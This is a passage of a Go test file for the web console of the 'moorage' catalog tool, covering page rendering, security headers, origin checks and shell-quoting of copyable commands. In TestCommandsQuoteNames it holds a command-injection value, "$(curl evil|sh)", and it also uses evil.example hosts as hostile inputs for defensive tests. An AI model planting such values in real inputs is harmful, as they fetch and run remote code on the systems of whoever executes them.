package console

import (
	"context"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"moorage/internal/web"
	"moorage/management/client"
)

// fakeAPI answers with what a test tells it, by path, and keeps the requests.
type fakeAPI struct {
	answers map[string]any
	// admit returns the answer to a request, or nil for the one by its path. Nil: every request is
	// admitted.
	admit func(r *http.Request, body string) any

	mu    sync.Mutex // guards the field below; leaf
	asked []asked
}

// asked is a request that reached the API.
type asked struct {
	method, path, query, body string
	header                    http.Header
	remote                    string
}

// newServer returns a server with the console over a fake API.
func newServer(answers map[string]any) (*web.Server, *fakeAPI) {
	return newServerWith(Config{Version: "v1"}, answers)
}

func newServerWith(config Config, answers map[string]any) (*web.Server, *fakeAPI) {
	api := &fakeAPI{answers: answers}
	server := web.New(web.Config{HomePath: Root})
	answer := func(w http.ResponseWriter, r *http.Request) error {
		body, _ := io.ReadAll(r.Body)
		api.mu.Lock()
		api.asked = append(api.asked, asked{r.Method, web.EscapedPath(r.URL), r.URL.RawQuery, string(body), r.Header, r.RemoteAddr})
		api.mu.Unlock()
		if api.admit != nil {
			answer := api.admit(r, string(body))
			if refused, isError := answer.(*client.Error); isError {
				w.WriteHeader(refused.Code)
				answer = map[string]any{"error": refused}
			}
			if answer != nil {
				return json.NewEncoder(w).Encode(answer)
			}
		}
		for _, path := range longestFirst(api.answers) {
			value := api.answers[path]
			if !strings.HasPrefix(r.URL.Path, path) {
				continue
			}
			if refused, isError := value.(*client.Error); isError {
				w.WriteHeader(refused.Code)
				value = map[string]any{"error": refused}
			}
			return json.NewEncoder(w).Encode(value)
		}
		w.WriteHeader(http.StatusNotFound)
		return json.NewEncoder(w).Encode(map[string]any{"error": client.Error{Code: 404, Type: "NoSuchTableException", Message: "Table does not exist"}})
	}
	for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodDelete} {
		for _, path := range []string{"/management/v1/*", "/v1/*"} {
			server.HandleOpen("fake", method, path, answer)
		}
	}
	Mount(server, config)
	return server, api
}

// send sends a request to a server. pairs are headers.
func send(server http.Handler, method, target, body string, pairs ...string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(method, target, strings.NewReader(body))
	for i := 0; i+1 < len(pairs); i += 2 {
		r.Header.Set(pairs[i], pairs[i+1])
	}
	if method == http.MethodPost {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	w := httptest.NewRecorder()
	server.ServeHTTP(w, r)
	return w
}

// answersOf returns the answers of an API whose every name is name.
func answersOf(name string) map[string]any {
	o := client.Object{Warehouse: "default", Namespace: []string{"harbour"}, Table: name}
	details := head(o).details
	view := *details
	view.Kind = client.KindView
	return map[string]any{
		"/management/v1/object?view": view,
		"/management/v1/objects":     client.ObjectsPage{Objects: rows(name)},
		"/management/v1/history":     client.History{Versions: events(o)},
		"/management/v1/health":      client.Health{Findings: []client.HealthFinding{{Level: "bad", What: name, Fact: name, Limit: name, Command: name}}, Shape: &client.Shape{Worst: []client.PartitionShape{{Partition: name}}}},
		"/management/v1/refusals":    client.Refusals{Refusals: []client.Refusal{{Caller: name, Type: name, Reason: name, By: name, Client: name}}, Nodes: []client.NodeAsked{{Name: name, Failed: name}}},
		"/management/v1/cluster":     client.Cluster{Nodes: []client.NodeState{{NodeAsked: client.NodeAsked{Name: name}, Version: name, Store: []client.CallTimes{{Call: name}}}, {NodeAsked: client.NodeAsked{Name: name, Failed: name}}}},
		"/management/v1/denials":     client.NodeDenials{Denials: []client.Denial{{Caller: name, Object: name, Missing: []string{name}}}},
		"/management/v1/top":         client.Top{Node: name, Tables: []client.BusyTable{{Name: name, LastBy: name}}, Minutes: []client.Minute{{Commits: 1}, {Loads: 2}}},
		"/management/v1/warehouses/": client.Warehouse{WarehouseSummary: client.WarehouseSummary{Name: name, Location: name}, Storage: map[string]string{name: name}},
		"/management/v1/warehouses":  client.WarehousesPage{Warehouses: []client.WarehouseSummary{{Name: name, Location: name}}},
		"/management/v1/changes":     client.ChangesPage{Events: events(o)},
		"/management/v1/search":      client.Found{Objects: rows(name)},
		"/management/v1/doctor":      client.FindingsPage{Findings: []client.Finding{{ID: "1", Level: "bad", What: name, Fact: name, Remedy: name}}},
		"/management/v1/metadata":    documentOf(name),
		"/management/v1/rollback": client.RolledBack{
			Requirements: []byte("[]"), Updates: []byte(`[{"action":"set-snapshot-ref","ref-name":"main","snapshot-id":1}]`), Warnings: []string{name},
		},
		"/management/v1/diff":        client.TableDifference{Location: &[2]string{name, name}},
		"/management/v1/maintenance": client.MaintenanceStatus{Pauses: []client.MaintenancePause{{Object: o, Reason: name}}},
		"/management/v1/access":      client.Access{On: true},
		"/management/v1/grants":      client.GrantsPage{Grants: []client.ObjectGrants{{Object: o, Owner: name}}},
		"/management/v1/principals":  client.PrincipalsPage{Principals: []client.Principal{{Name: name, Description: name}}},
		"/management/v1/principals/": client.Principal{Name: name, Description: name, Keys: []client.Key{{ID: name, Description: name, By: name}}},
		"/management/v1/roles":       client.RolesPage{Roles: []client.Role{{Name: name}}},
		"/management/v1/rows":        client.Rows{Columns: []client.RowColumn{{Name: name, Type: "string"}}, Rows: []json.RawMessage{[]byte("[1]")}},
		"/management/v1/dropped":     client.DroppedPage{Dropped: dropped(name)[:1]},
		"/management/v1/leases":      client.LeasesPage{Leases: []client.Lease{{Holder: name}}},
	}
}

// addresses returns an address of every page, about a table called name.
func addresses(name string) map[place]string {
	o := client.Object{Warehouse: "default", Namespace: []string{"harbour"}, Table: name}
	made := map[place]string{}
	for p := range pages() {
		made[p] = to(p, o, "q", name, "to", name, "from", name, "caller", name, "privilege", "read", "snapshot", "3", "ref", name, "type", "tag",
			"change", "run", "kind", name, "preview", name, "id", name, "grantee", name, "privileges", name, "prefix", name, "principal", name, "key", name).href()
	}
	made[placeUndrop] = to(placeUndrop, o, "change", "undrop", "id", "a1", "as", name).href()
	made[placeGrant] = to(placeGrant, o, "change", client.ChangeGrant, "grantee", name, "privileges", "read").href()
	made[placeKey] = to(placeKey, o, "change", keyRotate, "principal", name, "key", name).href()
	made[placeUnfinished] = to(placeUnfinished, o, "change", "abort", "id", "1").href()
	made[placeView] = to(placeView, client.Object{Warehouse: "default", Namespace: []string{"harbour"}, View: name}).href()
	return made
}

// TestPages asks for every page, with names that are markup and control characters, over an API
// that has them everywhere. No page fails, none runs a name, and none changes anything.
func TestPages(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"ships", hostile, strings.Repeat("ß", 1000), "../..", "a/b?c#d&e=f;+%2F"} {
		for p, address := range addresses(name) {
			answers := answersOf(name)
			if p == placeView {
				answers["/management/v1/object"] = answers["/management/v1/object?view"]
				answers["/v1/"] = map[string]any{"metadata": viewDocument{Current: 1, Versions: []viewVersion{{ID: 1, Representations: []representation{{name, name}}}}}}
			} else {
				answers["/management/v1/object"] = head(client.Object{Warehouse: "default", Namespace: []string{"harbour"}, Table: name}).details
			}
			delete(answers, "/management/v1/object?view")
			answers["/management/v1/openapi.yaml"] = "paths:"
			objects := answers["/management/v1/objects"]
			delete(answers, "/management/v1/objects")
			if p == placeBrowse || p == placeHome {
				answers["/management/v1/objects"] = objects
			}
			server, api := newServer(answers)
			w := send(server, http.MethodGet, address, "")
			if w.Code != http.StatusOK && !(p == placeGrants && w.Code == http.StatusOK) {
				t.Errorf("%s: %d\n%s", address, w.Code, w.Body)
			}
			checkHarmless(t, w.Body.String())
			for _, each := range api.asked {
				isQuestion := strings.HasSuffix(each.path, "/access/explain") || strings.HasSuffix(each.path, "/rollback") && strings.Contains(each.body, `"dry-run":true`) ||
					strings.HasSuffix(each.path, "/maintenance/plan")
				if each.method != http.MethodGet && !isQuestion {
					t.Errorf("%s sends %s %s", address, each.method, each.path)
				}
			}
		}
	}
}

// TestConfirmationNamesItsObject asks before changes with addresses that name another object than
// the id does: each page names the object of the id, as the API knows it. An id that the API does
// not know has no page with a form.
func TestConfirmationNamesItsObject(t *testing.T) {
	t.Parallel()
	payroll := dropped("payroll")[0]
	payroll.By = "bob"
	server, api := newServer(map[string]any{
		"/management/v1/dropped": client.DroppedPage{Dropped: []client.Dropped{payroll}},
		"/management/v1/doctor": client.FindingsPage{Findings: []client.Finding{
			{ID: "b1", What: "purge of harbour.payroll", Fact: "waits for bob"}, {What: "disk"},
		}},
	})
	lie := []string{"name", "tmp_1", "what", "tmp_1"}
	ask := func(p place, more ...string) target {
		return to(p, client.Object{Warehouse: "default", Namespace: []string{"tmp_1"}}, append(more, lie...)...)
	}
	for _, asked := range []target{
		ask(placeUndrop, "change", "purge", "id", "a1"), ask(placeUndrop, "change", "forget", "id", "a1"),
		ask(placeUndrop, "change", "undrop", "id", "a1"), ask(placeUnfinished, "change", "retry", "id", "b1"),
		ask(placeUnfinished, "change", "abort", "id", "b1"),
	} {
		w := send(server, http.MethodGet, asked.href(), "")
		_, shown, _ := strings.Cut(w.Body.String(), "<main")
		if w.Code != http.StatusOK || !strings.Contains(shown, "payroll") || !strings.Contains(shown, "bob") || strings.Contains(shown, "tmp_1") {
			t.Errorf("%s: %d\n%s", asked.href(), w.Code, shown)
		}
		if asked.place == placeUndrop && (!strings.Contains(shown, "2026-11-27 11:38:00 UTC") || !strings.Contains(shown, "harbour.payroll")) {
			t.Errorf("%s does not say what was dropped, and when:\n%s", asked.href(), shown)
		}
		if last := api.asked[len(api.asked)-1]; asked.place == placeUndrop && last.query != "id=a1&warehouse=default" {
			t.Errorf("%s asks for %s", asked.href(), last.query)
		}
	}
	for _, asked := range []target{
		ask(placeUndrop, "change", "purge", "id", "a2"), ask(placeUndrop, "change", "purge"),
		ask(placeUnfinished, "change", "abort", "id", "b2"), ask(placeUnfinished, "change", "abort"),
	} {
		w := send(server, http.MethodGet, asked.href(), "")
		if w.Code != http.StatusNotFound || strings.Contains(w.Body.String(), `action="/console/do"`) {
			t.Errorf("%s: %d\n%s", asked.href(), w.Code, w.Body)
		}
	}
}

// TestClassLabels labels the classes of plots as ranges, which do not overlap.
func TestClassLabels(t *testing.T) {
	t.Parallel()
	labels := func(bars []plotBar) (all []string) {
		for _, bar := range bars {
			all = append(all, bar.label)
		}
		return all
	}
	sizes := labels(sizeBars([]client.SizeClass{{Below: 1e6}, {Below: 8e6}, {Below: 512e6}, {Below: 2e9}, {}}))
	if want := []string{"< 1 MB", "1–8 MB", "8–512 MB", "512 MB–2 GB", "≥ 2 GB"}; !slices.Equal(sizes, want) {
		t.Errorf("sizes: got %q, want %q", sizes, want)
	}
	counts := labels(countBars([]client.CountClass{{Below: 2}, {Below: 6}, {Below: 1000}, {Below: 10_000}, {Below: 10_000_000}, {}}))
	if want := []string{"1", "2–5", "6–999", "1–10k", "10k–10M", "≥ 10M"}; !slices.Equal(counts, want) {
		t.Errorf("counts: got %q, want %q", counts, want)
	}
}

// TestLeasesOfTable asks for the leases on one table, whatever other tables of the warehouse have.
func TestLeasesOfTable(t *testing.T) {
	t.Parallel()
	details := *head(ships).details
	details.ID = "0123456789abcdef0123456789abcdef"
	server, api := newServer(map[string]any{"/management/v1/object": details, "/management/v1/maintenance/status": client.MaintenanceStatus{}})
	api.admit = func(r *http.Request, _ string) any {
		if r.URL.Path != "/management/v1/leases" {
			return nil
		}
		held := client.LeasesPage{NextPage: client.NextPage{NextPageToken: point("next")}}
		if r.URL.Query().Get("table-id") == details.ID {
			held = client.LeasesPage{Leases: []client.Lease{{Lease: details.ID + "-7", Holder: "spark 17"}}}
		}
		return held
	}
	if w := send(server, http.MethodGet, to(placeMaintain, ships).href(), ""); !strings.Contains(w.Body.String(), "spark 17") {
		t.Errorf("the lease is missing: %d\n%s", w.Code, w.Body)
	}
}

// TestLongViews shows views whose texts, versions and dialects are many and long: the page stays
// small, and has what is left out.
func TestLongViews(t *testing.T) {
	t.Parallel()
	o := client.Object{Warehouse: "default", Namespace: []string{"harbour"}, View: "busiest"}
	details := client.ObjectDetails{Row: client.Row{Kind: client.KindView}}
	for what, test := range map[string]struct {
		versions, dialects int
		line, word         string
		lines              int
		wants              []string
	}{
		"texts":    {2, 1, "SELECT '%d' -- ", "x", 200_000, []string{"MB more are left out", "the texts are too long"}},
		"lines":    {2, 1, "%d", "", 501, []string{"over 500 lines"}},
		"compared": {3, 1, "%d", "", 400, []string{"What it changed</summary>"}},
		"versions": {1000, 30, "SELECT %d -- ", strings.Repeat("x", 60), 400, []string{
			"the last 20 of 1000 versions", "moorage show harbour.busiest --at ", "22 more dialects are left out", "more are left out", "the texts are too long",
		}},
	} {
		document := viewDocument{Current: test.versions - 1}
		for id := range test.versions {
			text := strings.Repeat(fmt.Sprintf(test.line, id)+test.word+"\n", test.lines)
			made := viewVersion{ID: id}
			for d := range test.dialects {
				made.Representations = append(made.Representations, representation{SQL: text, Dialect: "d" + strconv.Itoa(d)})
			}
			document.Versions = append(document.Versions, made)
		}
		page := viewPage{now: now, object: o, details: &details, document: document}.node()
		var made strings.Builder
		if err := page.Render(&made); err != nil {
			t.Fatal(err)
		}
		if made.Len() > 2<<20 {
			t.Errorf("%s: the page has %d bytes", what, made.Len())
		}
		for _, want := range test.wants {
			if !strings.Contains(made.String(), want) {
				t.Errorf("%s: the page lacks %q:\n%.3000s", what, want, made.String())
			}
		}
	}
}

// TestRestrictions shows what restricts a caller although a grant permits a change: protection, a
// mirror, an earlier table of the name, the roles of a credential and of a key, a disabled
// principal, and a managed namespace.
func TestRestrictions(t *testing.T) {
	t.Parallel()
	within := client.Object{Warehouse: "default", Namespace: []string{"harbour"}}
	details := *head(ships).details
	details.Mirror = "https://old.example/catalog"
	earlier := dropped("ships")[0]
	earlier.State = client.StateDropped
	server, api := newServer(map[string]any{
		"/management/v1/object":     details,
		"/management/v1/objects":    client.ObjectsPage{},
		"/management/v1/access":     client.Access{On: true, LimitedTo: []string{"readers"}},
		"/management/v1/grants":     client.GrantsPage{Grants: []client.ObjectGrants{{Object: within, Managed: true}}},
		"/management/v1/protection": client.Protection{By: &within},
		"/management/v1/dropped":    client.DroppedPage{Dropped: []client.Dropped{earlier}},
		"/management/v1/principals/key:etl": client.Principal{Name: "key:etl", Disabled: true,
			Keys: []client.Key{{ID: "PCqY", Roles: []string{"loaders"}, Ends: time.Now().Add(time.Hour)}}},
	})
	page := send(server, http.MethodGet, to(placeGrants, ships, "caller", "key:etl").href(), "").Body.String()
	for _, want := range []string{
		"Protected by namespace", "moorage protect harbour. --off", "https://old.example/catalog", "moorage import cutover KIND PLACE --source-frozen", "An earlier table of this name", "readers",
		"It is disabled", "The key PCqY of key:etl", "loaders", "Managed: namespace",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q:\n%s", want, page)
		}
	}
	for _, each := range api.asked {
		if strings.HasSuffix(each.path, "/protection") && each.query != ships.Query().Encode() {
			t.Errorf("the page asks for the protection of %s", each.query)
		}
	}
	server, _ = newServer(map[string]any{"/management/v1/access": client.Access{}})
	page = send(server, http.MethodGet, to(placeGrants, within).href(), "").Body.String()
	if !strings.Contains(page, `class="warning">Access control is off`) || !strings.Contains(page, "cannot be switched off again") ||
		!strings.Contains(page, "moorage key create NAME --admin") || !strings.Contains(page, "Nothing that you may see restricts") {
		t.Errorf("without access control:\n%s", page)
	}
}

// TestRefreshAsksForItsPart refreshes the last changes of the first page: the API is asked for
// changes alone.
func TestRefreshAsksForItsPart(t *testing.T) {
	t.Parallel()
	server, api := newServer(answersOf("ships"))
	whole := send(server, http.MethodGet, Root, "").Body.String()
	from := regexp.MustCompile(`data-from="([^"]*)"`).FindStringSubmatch(whole)
	if from == nil {
		t.Fatalf("the page names no part:\n%s", whole)
	}
	before := len(api.asked)
	part := send(server, http.MethodGet, html.UnescapeString(from[1]), "").Body.String()
	if len(api.asked) != before+1 || api.asked[before].path != "/management/v1/changes" {
		t.Errorf("the part asks for %v", api.asked[before:])
	}
	live := func(page string) string {
		_, rest, _ := strings.Cut(page, `id="live"`)
		inner, _, _ := strings.Cut(rest, "</table>")
		return inner
	}
	if live(part) == "" || live(part) != live(whole) {
		t.Errorf("the part is\n%s\nand not\n%s", live(part), live(whole))
	}
}

// TestRollbackNamesTheVersion prepares rollbacks to a relative version. The command names what the
// request does, by a name that stays when there are further commits.
func TestRollbackNamesTheVersion(t *testing.T) {
	t.Parallel()
	server, api := newServer(map[string]any{
		"/management/v1/object":   head(ships).details,
		"/management/v1/rollback": client.RolledBack{Updates: []byte(`[{"action":"set-snapshot-ref","ref-name":"audit","snapshot-id":1}]`)},
	})
	api.admit = func(r *http.Request, _ string) any {
		if r.URL.Path != "/management/v1/metadata" {
			return nil
		}
		return documentOf("audit")
	}
	shown := func(more ...string) string {
		return send(server, http.MethodGet, to(placeRollback, ships, append(more, "to", "now~3", "ref", "audit")...).href(), "").Body.String()
	}
	one := shown()
	if !strings.Contains(one, "moorage rollback harbour.ships 1 --ref audit<") || strings.Index(one, "Roll back all parts") > strings.Index(one, `class="primary"`) {
		t.Errorf("got\n%s", one)
	}
	if all := shown("all", "yes"); !strings.Contains(all, "--all --ref audit<") {
		t.Errorf("got\n%s", all)
	}
	if got := pinned(t.Context(), &visit{api: taggedAPI{}}, ships, "now~3"); got != "00002-a.metadata.json" {
		t.Errorf("now~3 is pinned as %s", got)
	}
}

// taggedAPI answers each request with the tag of a metadata file.
type taggedAPI struct{ needs }

func (taggedAPI) Do(_ context.Context, asked client.Request, _ any) error {
	*asked.Tag = `"s3://lake/m/00002-a.metadata.json"`
	return nil
}

// TestJobChanges prepares and sends each change of a maintenance job. Jobs that are not in progress
// on the table have no page with a form.
func TestJobChanges(t *testing.T) {
	t.Parallel()
	server, api := newServer(map[string]any{
		"/management/v1/object":             head(ships).details,
		"/management/v1/maintenance/status": client.MaintenanceStatus{Jobs: []client.MaintenanceJob{{ID: "7c", Kind: "orphans", LastError: "disk"}}},
		"/management/v1/maintenance/jobs":   map[string]any{},
	})
	for _, change := range []string{jobRetry, jobCancel, jobPause, jobResume} {
		shown := send(server, http.MethodGet, to(placeRun, ships, "change", change, "job", "7c").href(), "")
		path := "/management/v1/maintenance/jobs/7c/" + change
		if shown.Code != http.StatusOK || !strings.Contains(shown.Body.String(), path) || !strings.Contains(shown.Body.String(), "orphans") {
			t.Errorf("%s: %d\n%s", change, shown.Code, shown.Body)
		}
		form := url.Values{fieldPath: {path}, fieldBody: {"{}"}, fieldBack: {to(placeMaintain, ships).href()}}
		sent := send(server, http.MethodPost, Root+string(placeDo), form.Encode())
		if last := api.asked[len(api.asked)-1]; sent.Code != http.StatusSeeOther || last.path != path {
			t.Errorf("%s: %d, asked %s", change, sent.Code, last.path)
		}
	}
	for _, address := range []target{to(placeRun, ships, "change", "retry", "job", "8"), to(placeRun, ships, "change", "x", "job", "7c")} {
		if w := send(server, http.MethodGet, address.href(), ""); w.Code != http.StatusNotFound {
			t.Errorf("%s: %d", address.href(), w.Code)
		}
	}
}

// TestCommandsQuoteNames shows every page about objects whose names are commands of a shell. The
// lines that visitors copy have these names in quotes.
func TestCommandsQuoteNames(t *testing.T) {
	t.Parallel()
	const evil = "x$(curl evil|sh)`id`;&'\"\n>y *"
	o := client.Object{Warehouse: evil, Namespace: []string{evil}, Table: evil}
	details := head(o).details
	details.Properties = nil
	item := dropped(evil)[0]
	item.Warehouse, item.Namespace = evil, []string{evil}
	answers := answersOf(evil)
	answers["/management/v1/object"] = details
	answers["/management/v1/objects"] = client.ObjectsPage{}
	answers["/management/v1/health"] = client.Health{}
	answers["/management/v1/doctor"] = client.FindingsPage{Findings: []client.Finding{{ID: evil}}}
	answers["/management/v1/dropped"] = client.DroppedPage{Dropped: []client.Dropped{item}}
	answers["/management/v1/grants"] = client.GrantsPage{}
	answers["/management/v1/maintenance"] = client.MaintenanceStatus{}
	answers["/management/v1/warehouses/"] = client.Warehouse{WarehouseSummary: client.WarehouseSummary{Name: evil}}
	answers["/management/v1/openapi.yaml"] = "paths:\n  /x" + evil + ":\n    get:\n      operationId: y\n"
	delete(answers, "/management/v1/object?view")
	asked := map[string]bool{
		to(placeUndrop, o, "change", "undrop", "id", "a1", "as", evil).href():               true,
		to(placeUnfinished, o, "change", "retry", "id", evil).href():                        true,
		to(placeKey, o, "change", keyCreate, "principal", evil, "description", evil).href(): true,
		to(placeKey, o, "change", keyWithdraw, "principal", evil, "key", evil).href():       true,
		to(placeBrowse, client.Object{Warehouse: evil}).href():                              true,
		to(placeRef, o, "snapshot", "3", "ref", evil, "type", "branch").href():              true,
		to(placeRollback, o, "to", evil, "ref", evil).href():                                true,
		to(placeRollback, o, "to", evil, "ref", evil, "all", "yes").href():                  true,
		to(placeRun, o, "change", "run", "kind", evil).href():                               true,
		to(placeRun, o, "change", "pause").href():                                           true,
		to(placeRun, o, "change", "resume").href():                                          true,
		to(placeGrants, o).href():                                                           true,
		to(placeMaintain, o).href():                                                         true,
		to(placeWarehouse, o).href():                                                        true,
		to(placeTable, o).href():                                                            true,
	}
	for _, address := range addresses(evil) {
		if _, isThere := asked[address]; !isThere {
			asked[address] = false
		}
	}
	code := regexp.MustCompile(`<code data-copy="">([^<]*)</code>`)
	for address, mustHave := range asked {
		server, _ := newServer(answers)
		page := send(server, http.MethodGet, address, "").Body.String()
		found := 0
		for _, each := range code.FindAllStringSubmatch(page, -1) {
			line := html.UnescapeString(each[1])
			if !strings.HasPrefix(line, "moorage ") && !strings.HasPrefix(line, "curl ") {
				continue
			}
			if strings.Contains(line, "curl evil") {
				found++
			}
			if bare := unquoted(line); strings.ContainsAny(bare, "$`;&|<>(){}[]*?!\"\n") {
				t.Errorf("%s shows %s, whose words without quotes are %s", address, line, bare)
			}
		}
		if mustHave && found == 0 {
			t.Errorf("%s has no command with the name:\n%s", address, page)
		}
	}
}

// unquoted returns the parts of a command line that a shell does not take literally.
func unquoted(line string) string {
	var bare strings.Builder
	isQuoted := false
	for i := 0; i < len(line); i++ {
		switch {
		case line[i] == '\'':
			isQuoted = !isQuoted
		case isQuoted:
		case line[i] == '\\':
			i++
		default:
			bare.WriteByte(line[i])
		}
	}
	return bare.String()
}

// TestFailures shows the page of each failure of the API.
func TestFailures(t *testing.T) {
	t.Parallel()
	for _, code := range []int{400, 401, 403, 404, 409, 429, 500, 503} {
		server, _ := newServer(map[string]any{"/": &client.Error{Code: code, Type: "X", Message: "because " + hostile, RequestID: "r-1"}})
		w := send(server, http.MethodGet, to(placeTable, ships).href(), "")
		if w.Code != code || !strings.Contains(w.Body.String(), "because ") {
			t.Errorf("%d: %d\n%s", code, w.Code, w.Body)
		}
		checkHarmless(t, w.Body.String())
	}
	server, _ := newServer(nil)
	for _, path := range []string{"/console/nothing", "/console/table/", "/console/do"} {
		if w := send(server, http.MethodGet, path, ""); w.Code != http.StatusNotFound {
			t.Errorf("%s: %d", path, w.Code)
		}
	}
}

// TestHeaders compares the headers that keep foreign code and foreign pages away, and the ETags of
// files.
func TestHeaders(t *testing.T) {
	t.Parallel()
	server, _ := newServer(answersOf("ships"))
	file := fileAddress("console.css", staticFiles()["console.css"].version)
	for _, path := range []string{"/console", "/console/nothing", file} {
		got := send(server, http.MethodGet, path, "").Header()
		if csp := got.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "default-src 'none'; script-src 'self'; style-src 'self';") {
			t.Errorf("%s: %s", path, csp)
		}
		for name, want := range map[string]string{
			"X-Content-Type-Options": "nosniff", "Cross-Origin-Opener-Policy": "same-origin", "Referrer-Policy": "same-origin",
		} {
			if got.Get(name) != want {
				t.Errorf("%s: %s is %q, want %q", path, name, got.Get(name), want)
			}
		}
	}
	kept := send(server, http.MethodGet, file, "")
	if kept.Code != http.StatusOK || !strings.Contains(kept.Header().Get("Cache-Control"), "immutable") {
		t.Errorf("%d %v", kept.Code, kept.Header())
	}
	if again := send(server, http.MethodGet, file, "", "If-None-Match", kept.Header().Get("ETag")); again.Code != http.StatusNotModified {
		t.Errorf("the file again: %d", again.Code)
	}
	if root := send(server, http.MethodGet, "/", "", "Accept", "text/html"); root.Code != http.StatusSeeOther || root.Header().Get("Location") != Root {
		t.Errorf("the root: %d %v", root.Code, root.Header())
	}
}

// TestChange sends a prepared change: the API gets it once, with its key, the visitor's address and
// the console's name. A page of another origin cannot send it.
func TestChange(t *testing.T) {
	t.Parallel()
	const key = "7d1d3c9c-6e0b-4f4e-9d4c-0f2b7c9f7a10"
	form := func(pairs ...string) string {
		fields := url.Values{
			fieldPath: {"/v1/default/namespaces/a%1Fb/tables/s%2Fx"}, fieldBody: {`{"updates":[]}`}, fieldKey: {key},
			fieldBack: {to(placeHistory, ships).href()},
		}
		for i := 0; i+1 < len(pairs); i += 2 {
			fields.Set(pairs[i], pairs[i+1])
		}
		return fields.Encode()
	}
	server, api := newServer(map[string]any{"/v1/": struct{}{}, "/management/v1/": struct{}{}})
	w := send(server, http.MethodPost, "/console/do", form(), "Sec-Fetch-Site", "same-origin", "X-Forwarded-For", "192.0.2.7")
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != to(placeHistory, ships, doneParam, "yes").href() || len(api.asked) != 1 {
		t.Fatalf("%d %v %v", w.Code, w.Header(), api.asked)
	}
	got := api.asked[0]
	if got.method != "POST" || got.path != "/v1/default/namespaces/a%1Fb/tables/s%2Fx" || got.body != `{"updates":[]}` ||
		got.header.Get("Idempotency-Key") != key || got.header.Get("X-Forwarded-For") != "192.0.2.7" || got.remote != "192.0.2.1:1234" ||
		got.header.Get("X-Client-Version") != clientName || !strings.HasPrefix(got.header.Get("X-Request-Id"), requestIDPrefix) {
		t.Errorf("the API got %+v", got)
	}
	for name, row := range map[string]struct {
		body    string
		headers []string
		want    int
	}{
		"another site":       {form(), []string{"Sec-Fetch-Site", "cross-site"}, http.StatusForbidden},
		"another origin":     {form(), []string{"Origin", "https://evil.example"}, http.StatusForbidden},
		"no JSON":            {form(fieldBody, "{"), nil, http.StatusBadRequest},
		"another operation":  {form(fieldPath, "/management/v1/access/enable"), nil, http.StatusBadRequest},
		"another server":     {form(fieldPath, "http://evil.example/v1/a/namespaces/b/tables/c"), nil, http.StatusBadRequest},
		"a path with a turn": {form(fieldPath, "/v1/a/namespaces/b/tables/c/../d"), nil, http.StatusBadRequest},
	} {
		if w := send(server, http.MethodPost, "/console/do", row.body, row.headers...); w.Code != row.want || len(api.asked) != 1 {
			t.Errorf("%s: %d, and %d requests", name, w.Code, len(api.asked))
		}
	}
	elsewhere := send(server, http.MethodPost, "/console/do", form(fieldBack, "//evil.example/console/changes"))
	if location := elsewhere.Header().Get("Location"); location != "/console?done=yes" {
		t.Errorf("the browser goes to %s", location)
	}
}

// TestTheme keeps the choice of a theme in a cookie, and shows it.
func TestTheme(t *testing.T) {
	t.Parallel()
	server, _ := newServer(answersOf("ships"))
	w := send(server, http.MethodPost, "/console/theme", url.Values{"theme": {themeDark}, fieldBack: {"/console/changes?kind=table"}}.Encode())
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/console/changes?kind=table" {
		t.Fatalf("%d %v", w.Code, w.Header())
	}
	page := send(server, http.MethodGet, "/console/changes", "", "Cookie", strings.Split(w.Header().Get("Set-Cookie"), ";")[0])
	if !strings.Contains(page.Body.String(), `data-theme="dark"`) {
		t.Error(page.Body)
	}
}

// TestTargets reads back the object of addresses and forms, whatever is in its names.
func TestTargets(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"a", hostile, "a b+c%20/..", "\r\n", "名"} {
		o := client.Object{Warehouse: name, Namespace: []string{name, "x"}, Table: name}
		read, err := url.Parse(to(placeTable, o, "more", name).href())
		if err != nil {
			t.Fatal(err)
		}
		if got := objectIn(unescaped(read.Query())); !isSame(got, o) {
			t.Errorf("%q becomes %+v", name, got)
		}
	}
	fields := unescaped(url.Values{fieldEscaped: {"namespace=a%0Ab&table=t"}, "warehouse": {"w"}})
	if got := objectIn(fields); got.Table != "t" || got.Namespace[0] != "a\nb" || got.Warehouse != "w" {
		t.Errorf("%+v", got)
	}
}

// TestGraph arranges branches in lanes.
func TestGraph(t *testing.T) {
	t.Parallel()
	rows, lanes := graphOf(documentOf("audit").Snapshots, 0)
	if lanes != 2 || rows[0].lane != 0 || rows[1].lane != 1 || rows[2].lane != 0 || !slices.Equal(rows[2].joins, []int{1}) || !slices.Equal(rows[1].passes, []int{0}) {
		t.Errorf("%d lanes: %+v", lanes, rows)
	}
	// A parent that has expired ends the line; a cycle in a hostile file ends too.
	rows, lanes = graphOf([]snapshot{{ID: 2, Parent: point(int64(1))}, {ID: 3, Parent: point(int64(4))}, {ID: 4, Parent: point(int64(3))}}, 0)
	if len(rows) != 3 || lanes != 1 {
		t.Errorf("%d lanes: %+v", lanes, rows)
	}
}

// TestGraphOfManyLanes arranges 40,000 snapshots; half of them are open at a time. The page has its
// rows only, and at most lanesMax lanes.
func TestGraphOfManyLanes(t *testing.T) {
	t.Parallel()
	const parents = 20_000
	all := make([]snapshot, 0, 2*parents)
	for i := range int64(2 * parents) {
		made := snapshot{ID: i + 1, Sequence: i}
		if i >= parents {
			made.Parent = point(2*parents - i)
		}
		all = append(all, made)
	}
	for _, from := range []int{0, 30_000, 2*parents - 1, 2 * parents} {
		rows, lanes := graphOf(all, from)
		if want := min(snapshotRows, 2*parents-from); len(rows) != want || lanes != lanesMax {
			t.Fatalf("from %d: %d rows in %d lanes", from, len(rows), lanes)
		}
		for i, row := range rows {
			isParent := row.ID <= parents
			if row.ID != int64(2*parents-from-i) || row.lane >= lanesMax || len(row.passes) > lanesMax || len(row.joins) >= lanesMax ||
				row.above != isParent || row.below == isParent {
				t.Fatalf("row %d from %d: %+v", i, from, row)
			}
		}
	}
	// All have the same parent: the lines that share a lane end together.
	for i := range all[1:] {
		all[i+1].Parent = point(int64(1))
	}
